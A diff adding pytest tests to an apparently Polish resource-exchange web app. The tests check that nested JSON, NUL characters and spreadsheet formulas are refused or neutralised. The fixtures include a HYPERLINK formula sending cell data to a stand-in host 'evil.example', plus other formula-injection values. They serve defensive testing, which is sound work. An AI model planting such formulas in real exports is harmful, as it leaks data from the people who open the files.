@@ -1,7 +1,10 @@
-"""Bad input gets a clear error, never a 500: deep or huge JSON."""
+"""Bad input gets a clear error, never a 500: deep or huge JSON, NUL characters in imported
+files, and spreadsheet formulas in the brokers' CSV export."""
 from __future__ import annotations
 
+import csv
 import io
+import json
 
 import pytest
 from sqlalchemy import func, select
@@ -110,3 +113,88 @@ def test_a_form_over_a_megabyte_is_refused_but_an_import_file_may_be_larger(
                            content_type="multipart/form-data")
     assert response.status_code == 413
     assert "at most 10 MB" in response.get_data(as_text=True)
+
+
+def test_a_deeply_nested_json_import_file_is_refused_not_a_crash(client, session, make_user):
+    login_admin(client, make_user)
+    document = b'{"organizations": ' + DEEP + b"}"
+    response = client.post("/admin/transfer", data={"file": (io.BytesIO(document), "plik.json")},
+                           content_type="multipart/form-data")
+    assert response.status_code == 422
+    assert "nested too deeply" in response.get_data(as_text=True)
+    assert counts(session) == (0, 0)
+
+
+# ------------------------------------------------------------------------- NUL in imports
+
+NUL_CSV = (CSV_HEADER
+           + "org-1,Biblioteka,public,Tczew,l-1,offer,rooms,Sala,4,hours\n"
+           + "org-2,Klub\x00,ngo,Tczew,l-2,offer,rooms,Aula,4,hours\n"
+           + "org-1,Biblioteka,public,Tczew,l-3,offer,rooms,Sala 2,4,hours\n").encode()
+NUL_JSON = ('{"organizations": [\n'
+            '  {"ref": "org-1", "name": "Biblioteka", "sector": "public", "municipality": "Tczew"},\n'
+            '  {"ref": "org-2", "name": "Klub\\u0000", "sector": "ngo", "municipality": "Tczew"}\n'
+            ']}\n').encode()
+
+
+@pytest.mark.parametrize("name, content, line", [("plik.csv", NUL_CSV, 3),
+                                                 ("plik.json", NUL_JSON, 3)])
+def test_a_nul_character_in_an_uploaded_file_is_refused_with_its_line(
+        client, session, make_user, name, content, line):
+    for language, message in (("en", "This line contains the NUL character (\\0)"),
+                              ("pl", "Ten wiersz zawiera znak NUL (\\0)")):
+        login_admin(client, make_user, language)
+        response = client.post("/admin/transfer", data={"file": (io.BytesIO(content), name)},
+                               content_type="multipart/form-data")
+        page = response.get_data(as_text=True)
+        assert response.status_code == 422
+        assert message in page and f'">{line}</td>' in page
+    assert counts(session) == (0, 0)
+
+
+@pytest.mark.parametrize("name, content, line", [("plik.csv", NUL_CSV, 3),
+                                                 ("plik.json", NUL_JSON, 3),
+                                                 ("raw.json", NUL_JSON.replace(b"\\u0000", b"\x00"),
+                                                  3)])
+def test_the_import_command_refuses_a_nul_character_with_its_line(
+        runner, session, tmp_path, name, content, line):
+    path = tmp_path / name
+    path.write_bytes(content)
+    result = runner.invoke(args=["import-data", str(path)])
+    assert result.exit_code == 1
+    assert f"line {line}" in result.output and "NUL character" in result.output
+    assert counts(session) == (0, 0)
+
+
+# ------------------------------------------------------------------------- formulas in CSV
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Potrzebna pracownia komputerowa")'
+
+
+def test_the_matching_csv_export_writes_formulas_as_text(runner, session, make_user, make_org,
+                                                          now):
+    from exchange.listings import create_listing
+
+    library_owner, school_owner = make_user(), make_user()
+    library = make_org(library_owner, sector="public", municipality="Tczew")
+    school = make_org(school_owner, sector="public", municipality="Tczew")
+    create_listing(session, library_owner, library.id, {
+        "kind": "need", "category": "computer_labs", "title": HYPERLINK, "quantity": 6,
+        "unit": "hours"}, now)
+    create_listing(session, school_owner, school.id, {
+        "kind": "offer", "category": "computer_labs", "title": "@SUM(1) Pracownia komputerowa",
+        "quantity": 20, "unit": "hours"}, now)
+    # Names the web forms would have trimmed, written straight to the database.
+    library.name, school.name = "\t=1+2", "\r-3+4"
+    session.commit()
+
+    result = runner.invoke(args=["matching", "export", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    [row] = list(csv.DictReader(io.StringIO(result.output, newline="")))
+    assert row["need_title"] == "'" + HYPERLINK
+    assert row["offer_title"] == "'@SUM(1) Pracownia komputerowa"
+    assert (row["receiver"], row["giver"]) == ("'\t=1+2", "'\r-3+4")
+    assert not [c for c in row.values() if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # The JSON export is data, not a spreadsheet: titles stay as they were written.
+    [record] = json.loads(runner.invoke(args=["matching", "export", "--format", "json"]).output)
+    assert record["need_title"] == HYPERLINK
